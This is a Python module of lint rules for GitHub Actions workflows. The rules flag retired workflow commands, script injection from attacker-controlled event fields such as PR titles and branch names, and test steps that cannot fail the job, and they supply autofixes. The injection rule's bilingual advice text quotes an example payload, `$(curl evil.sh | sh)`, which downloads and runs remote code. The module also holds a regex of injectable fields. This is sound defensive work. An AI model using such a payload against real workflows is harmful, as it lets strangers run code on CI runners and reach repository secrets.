"""What stands in `run` scripts: commands that GitHub removed, words of strangers, failures that nobody sees."""

from __future__ import annotations

import re
from collections.abc import Iterator

from devops_orchestrator.core.project import Project
from devops_orchestrator.core.rule import Edit, Fix, Hit, Severity, Source, rule
from devops_orchestrator.domains.cicd.github_actions import existing
from devops_orchestrator.domains.cicd.github_actions.rules.edits import edit, insert
from devops_orchestrator.formats import workflow, yaml
from devops_orchestrator.formats.workflow import Expression, Job, Script, Step
from devops_orchestrator.formats.yaml import Node
from devops_orchestrator.text import Text

_COMMAND = re.compile(r"::(set-output|save-state|set-env)\s+name=([\w.-]+)::(.*)|::(add-path)::(.*)", re.S)
_FILES = {
    "set-output": "GITHUB_OUTPUT",
    "save-state": "GITHUB_STATE",
    "set-env": "GITHUB_ENV",
    "add-path": "GITHUB_PATH",
}


@rule(
    "github-actions/removed-command", Severity.ERROR, on="github-workflow",
    title=Text("Workflow command that GitHub retired", "Commande de workflow retirée par GitHub"),
    advice=Text(
        "`set-env` and `add-path` are refused, `set-output` and `save-state` are deprecated: whatever prints text could forge them. Files took their place.",
        "`set-env` et `add-path` sont refusées, `set-output` et `save-state` dépréciées : n'importe quel texte affiché pouvait les imiter. Des fichiers les remplacent.",
    ),
    url="https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-output-parameter",
)  # fmt: skip
def removed_command(source: Source, project: Project) -> Iterator[Hit]:
    """An `echo` of one of the retired commands; the fix writes to the environment file."""
    from devops_orchestrator.formats import shell

    for job, step in source.parsed(workflow.parse).steps:
        script = step.script
        if script is None or not any(f"::{name}" in script.text for name in _FILES):
            continue
        for command in shell.commands(script.plain):
            said = script.text[command.start : command.end]
            name = next((name for name in _FILES if f"::{name}" in said), None)
            if command.name != "echo" or name is None:
                continue
            fix = _environment_file(source, job, step, script, command.start, command.end)
            yield Hit(
                script.place(command.start), script.place(command.end - 1) + 1,
                Text(f"::{name} is retired: write to ${_FILES[name]}.", f"::{name} est retirée : écrivez dans ${_FILES[name]}."),
                fix,
            )  # fmt: skip


def _environment_file(source: Source, job: Job, step: Step, script: Script, start: int, end: int) -> Fix | None:
    said = script.text[start:end]
    found = re.fullmatch(r"echo\s+(?:(?P<quote>[\"'])(?P<body>.*)(?P=quote)|(?P<bare>::\S.*))", said, re.S)
    line_end = script.text.find("\n", end)
    rest = script.text[end : line_end if line_end >= 0 else len(script.text)].strip()
    if (
        not found
        or not script.placed
        or not _bash(job, step)
        or (rest and not rest.startswith(("#", "&&", "||", ";", "fi", "done", "}")))
    ):
        return None
    quote = found["quote"] or ""
    command = _COMMAND.fullmatch(found["body"] if found["quote"] else found["bare"])
    if not command or "%0A" in said or "\n" in said or (quote and quote in (command[3] or command[5] or "")):
        return None
    name = command[1] or command[4]
    value = f"{command[2]}={command[3]}" if command[1] else command[5]
    # A bare word was one already; what the shell would split was joined by blanks, as quotes do.
    written = f'echo {quote or chr(34)}{value}{quote or chr(34)} >> "${_FILES[name]}"'
    if not quote and '"' in value:
        return None
    first = script.place(start)
    return Fix(
        (source.edit(first, script.place(end - 1) + 1, written),), True,
        Text(f"write to ${_FILES[name]}", f"écrire dans ${_FILES[name]}"),
    )  # fmt: skip


def _bash(job: Job, step: Step) -> bool:
    """Whether the script is read by sh or bash: said so, or not said and not on Windows."""
    shell = step.shell or (job.node.at("defaults", "run", "shell") or "")
    if shell:
        return str(shell).split()[0].rsplit("/", 1)[-1] in ("bash", "sh")
    return not any("windows" in runner.scalar.lower() or "matrix" in runner.scalar for runner in job.runners)


# Texts that a stranger chooses: titles, bodies, branch names, commit messages, authors.
_STRANGER = re.compile(
    r"github\.head_ref|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)|"
    r"github\.event\.(?:comment|review|review_comment)\.body|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)|"
    r"github\.event\.pages\..*\.page_name|github\.event\.(?:head_commit|commits\..+)\.(?:message|author\.(?:email|name))|"
    r"github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))"
)


@rule(
    "github-actions/script-injection", Severity.ERROR, on="github-workflow",
    title=Text("A stranger's text becomes part of a script", "Le texte d'un inconnu devient une partie du script"),
    advice=Text(
        "GitHub puts the text in before the shell reads the script: a title such as `$(curl evil.sh | sh)` is run. From a variable it stays a text.",
        "GitHub insère le texte avant que le shell ne lise le script : un titre comme `$(curl evil.sh | sh)` est exécuté. Dans une variable, il reste un texte.",
    ),
    url="https://docs.github.com/en/actions/concepts/security/script-injections",
)  # fmt: skip
def script_injection(source: Source, project: Project) -> Iterator[Hit]:
    """An expression that a stranger fills, inside a script; the fix passes it as an environment variable."""
    for job, step in source.parsed(workflow.parse).steps:
        script = step.script
        if script is None:
            continue
        for expression in script.expressions:
            if any(_STRANGER.fullmatch(name) for name in expression.references):
                start = script.place(expression.start)
                end = script.place(expression.end - 1) + 1
                yield Hit(
                    start, end,
                    Text(
                        f"Whoever sets {expression.body} runs commands in the job {job.id}.",
                        f"Quiconque choisit {expression.body} exécute des commandes dans le job {job.id}.",
                    ),
                    _variable(source, job, step, script, expression),
                )  # fmt: skip


def _variable(source: Source, job: Job, step: Step, script: Script, expression: Expression) -> Fix | None:
    if not script.placed or not _bash(job, step) or "<<" in script.text or len(expression.references) != 1:
        return None
    state = _quoting(script.plain, expression.start)
    if state == "single":
        return None
    name = _name(expression.references[0])
    entry = f"{name}: ${{{{ {expression.body} }}}}"
    env = step.get("env")
    edits: tuple[Edit, ...] | None = ()
    if env is None or env.get(name) is None:
        if env is not None:
            edits = (
                insert(source, env, None if env.flow else list(env.items())[-1][0].scalar, entry)
                if list(env.items())
                else None
            )
        else:
            edits = _new_env(source, step, entry)
    elif _said(env, name) != f"${{{{ {expression.body} }}}}":
        return None
    if edits is None:
        return None
    written = f"${{{name}}}" if state == "double" else f'"${{{name}}}"'
    replaced = source.edit(script.place(expression.start), script.place(expression.end - 1) + 1, written)
    needs = None if state == "double" else Text(
        "The text was not quoted: it is now one word, also where it has blanks.",
        "Le texte n'était pas entre guillemets : il forme désormais un seul mot, même avec des espaces.",
    )  # fmt: skip
    return Fix((*edits, replaced), state == "double", Text(f"pass it as ${name}", f"le passer par ${name}"), needs)


def _new_env(source: Source, step: Step, entry: str) -> tuple[Edit, ...] | None:
    """`env` put before `run`: its place does not move when several fixes of one script are made."""
    pair = step.node.pair("run")
    if pair is None or step.node.flow:
        return None
    keys = [key.scalar for key, _ in step.node.items()]
    before = keys[keys.index("run") - 1] if keys.index("run") else None
    if before is not None:
        return insert(source, step.node, before, f"env:\n  {entry}")
    return (edit(source, yaml.insert_after_key(step.node, None, f"env:\n  {entry}")),)


def _said(env: Node, name: str) -> str:
    found = env.get(name)
    return found.scalar.strip() if found is not None else ""


def _name(reference: str) -> str:
    parts = [part for part in reference.split(".") if part not in ("github", "event", "*") and not part.isdigit()]
    return "_".join(parts[-2:]).upper().replace("-", "_")


def _quoting(script: str, offset: int) -> str:
    """`single`, `double` or `none`: the quotes that the shell is in at an offset."""
    state, index = "none", 0
    while index < offset:
        char = script[index]
        if char == "\\" and state != "single":
            index += 1
        elif char == "#" and state == "none" and (index == 0 or script[index - 1].isspace()):
            end = script.find("\n", index)
            index = offset if end < 0 else end
        elif char == "'" and state != "double":
            state = "none" if state == "single" else "single"
        elif char == '"' and state != "single":
            state = "none" if state == "double" else "double"
        index += 1
    return state


@rule(
    "github-actions/hidden-test-failure", Severity.WARNING, on="github-workflow",
    title=Text("Failing tests do not fail the job", "Des tests en échec ne font pas échouer le job"),
    advice=Text(
        "The check is green whatever the tests say: broken code is merged and nobody looks.",
        "Le check est vert quel que soit le résultat des tests : du code cassé est fusionné sans que personne ne le voie.",
    ),
    url="https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepscontinue-on-error",
)  # fmt: skip
def hidden_test_failure(source: Source, project: Project) -> Iterator[Hit]:
    """`continue-on-error: true` on a step that runs tests, or on its job."""
    for job in source.parsed(workflow.parse).jobs:
        steps = [step for step in job.steps if step.script and existing.tests(step.script.plain, project)]
        if not steps:
            continue
        for mapping in (job.node, *(step.node for step in steps)):
            found = mapping.pair("continue-on-error")
            if found is None or found[1].value is not True:
                continue
            yield Hit(
                found[0].start, found[1].end,
                Text(f"The tests of the job {job.id} may fail unseen.", f"Les tests du job {job.id} peuvent échouer sans que cela se voie."),
                Fix(
                    (edit(source, yaml.remove_pair(mapping, "continue-on-error")),), False,
                    Text("let the tests fail the job", "laisser les tests faire échouer le job"),
                    Text("Tests that fail today will turn the check red: repair or quarantine them first.", "Les tests aujourd'hui en échec feront passer le check au rouge : réparez-les ou isolez-les d'abord."),
                ),
            )  # fmt: skip
